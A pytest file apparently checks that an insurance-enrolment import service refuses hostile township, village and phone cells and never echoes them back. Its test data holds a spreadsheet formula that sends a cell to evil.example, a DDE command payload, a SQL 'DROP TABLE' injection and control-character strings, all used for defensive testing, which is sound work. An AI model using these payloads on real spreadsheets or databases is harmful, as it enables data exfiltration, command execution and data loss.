"""Hostile 所属乡镇 / 所属村（社区） / 联系电话 cells (issue 21): formulas, 10,000-character cells, NUL and control
characters, look-alike digits, names built to confuse the lookup. Each row is refused with its own stable code,
nothing of it is written, a message repeats at most a short, printable part of the cell and never the phone,
and the error workbook hands no formula back."""
from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from tests.unit.http_support import (
    CLERK,
    client,  # noqa: F401  (fixture)
    event_count,
    number,
    system,  # noqa: F401  (fixture)
)

HEADER = ["姓名", "身份证号码", "参保类别", "所属乡镇", "所属村（社区）", "联系电话", "参保日期"]


def quoted_csv(rows: list[list[str]]) -> bytes:
    """Every cell quoted (the attacks hold commas, quotes and line breaks)."""
    def cell(v: str) -> str:
        return '"' + str(v).replace('"', '""') + '"'
    return ("\r\n".join(",".join(cell(c) for c in r) for r in [HEADER, *rows]) + "\r\n").encode("utf-8")


def xml_of(workbook: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(workbook)) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))


def send(client, rows: list[list[str]], **params):
    return client.post("/imports", files={"file": ("hostile.csv", quoted_csv(rows))}, headers=CLERK, params=params)


def row(seq: int, township: str = "关庙镇", village: str = "关庙社区", phone: str = "") -> list[str]:
    return ["王芳", number(seq), "城乡居民", township, village, phone, "2024-09-10"]


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B2,"点此查看")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3镇",
            "=1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_as_a_place_name_is_an_unknown_place_and_comes_back_as_text(hostile, client, system, formula):
    before = event_count(system)
    r = send(client, [row(700, township=formula), row(701, village=formula)], errors="xlsx")
    book = load_workbook(io.BytesIO(r.content))
    cells = [c for line in book["错误行"].iter_rows() for c in line if c.value is not None]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    hostile.attempt(f"formula as a place name ({formula[:12]})", status=r.status_code,
                    written=event_count(system) != before, leaked=bool(formulas) or "<f>" in xml_of(r.content))
    assert r.status_code == 200 and formulas == [] and r.headers["x-import-errors"] == "2"
    why = [line[-1].value for line in book["错误行"].iter_rows(min_row=2)]
    has_digit = any(ch.isdigit() for ch in formula)  # digits: read as a (bad) code, not a name
    for text in why:
        assert text.startswith("第") and ("[IMPORT_PLACE_UNKNOWN]" in text or has_digit), text
    report = send(client, [row(700, township=formula)]).json()
    assert report["lines"][0]["status"] == "error" and report["errors"] == 1


@pytest.mark.parametrize("column", ["township", "village", "phone"])
def test_a_ten_thousand_character_cell_is_refused_with_a_short_message(hostile, client, system, column):
    huge = "关" * 10_000
    cells = {"township": row(710, township=huge), "village": row(710, village=huge),
             "phone": row(710, phone="1" * 10_000)}[column]
    before = event_count(system)
    r = send(client, [cells])
    body = r.json()
    problems = body["lines"][0]["problems"] if r.status_code < 300 else []
    longest = max((len(p["message"]) + len(p.get("message_en", "")) for p in problems), default=0)
    hostile.attempt(f"10,000-character {column} cell", status=r.status_code, written=event_count(system) != before,
                    leaked=longest > 600)
    assert r.status_code == 200 and body["errors"] == 1
    code = "IMPORT_PHONE_INVALID" if column == "phone" else "IMPORT_PLACE_UNKNOWN"
    assert [p["code"] for p in problems] == [code] and longest <= 600
    assert len(r.content) < 4_000  # the cell is not echoed back in the report


@pytest.mark.parametrize("township,village", [("关庙\x00镇", "关庙社区"), ("关庙镇", "关庙\x00社区"),
                                              ("关庙镇\u202e", "\x1b[31m关庙社区"), ("\x00", "\x00")])
def test_nul_and_control_characters_in_a_name_are_refused_and_never_repeated(hostile, client, system, township,
                                                                              village):
    before = event_count(system)
    r = send(client, [row(720, township=township, village=village)])
    text = r.text
    hostile.attempt("NUL / control characters in a place name", status=r.status_code,
                    written=event_count(system) != before,
                    leaked="\\u0000" in text or "\\u001b" in text or "\\u202e" in text)
    assert r.status_code in (200, 422), text
    if r.status_code == 200:
        assert r.json()["errors"] == 1
        codes = {p["code"] for p in r.json()["lines"][0]["problems"]}
        # a name with digits in it (an escape sequence's "31") is read as a malformed code
        assert codes <= {"IMPORT_PLACE_UNKNOWN", "IMPORT_PLACE_MISMATCH", "GRID_FORMAT"} and codes
    assert event_count(system) == before


def test_nul_in_a_phone_is_refused_without_repeating_it(hostile, client, system):
    before = event_count(system)
    r = send(client, [row(730, phone="1380000\x000001"), row(731, phone="13800000001\r\n=1+1")])
    hostile.attempt("NUL / line break in a phone", status=r.status_code, written=event_count(system) != before,
                    leaked="1380000" in r.text)
    assert r.status_code == 200 and r.json()["errors"] == 2
    assert {p["code"] for line in r.json()["lines"] for p in line["problems"]} == {"IMPORT_PHONE_INVALID"}


@pytest.mark.parametrize("township,village,code", [
    ("６１０９０２１００", "关庙社区", "TOWNSHIP_FORMAT"),          # full-width digits: no code, and said so
    ("关庙镇", "６１０９０２１０００１", "GRID_FORMAT"),
    ("关庙.*", "", "IMPORT_PLACE_UNKNOWN"),                      # no pattern matching on what a clerk writes
    ("关庙镇'; DROP TABLE places;--", "", "IMPORT_PLACE_UNKNOWN"),
    ("镇", "村", "IMPORT_PLACE_UNKNOWN"),                         # a bare suffix matches nothing
    ("", "社区居委会", "IMPORT_PLACE_UNKNOWN"),
    ("城关镇", "关庙社区", "IMPORT_PLACE_UNKNOWN"),                 # another county's township (汉阴县)
])
def test_names_and_codes_built_to_confuse_the_lookup_are_refused(hostile, client, system, township, village, code):
    before = event_count(system)
    r = send(client, [row(740, township=township, village=village)])
    codes = [p["code"] for p in r.json()["lines"][0]["problems"]] if r.status_code == 200 else []
    hostile.attempt(f"confusing place {township[:8]}/{village[:8]}", status=r.status_code,
                    written=event_count(system) != before)
    assert r.status_code == 200 and code in codes, r.json()
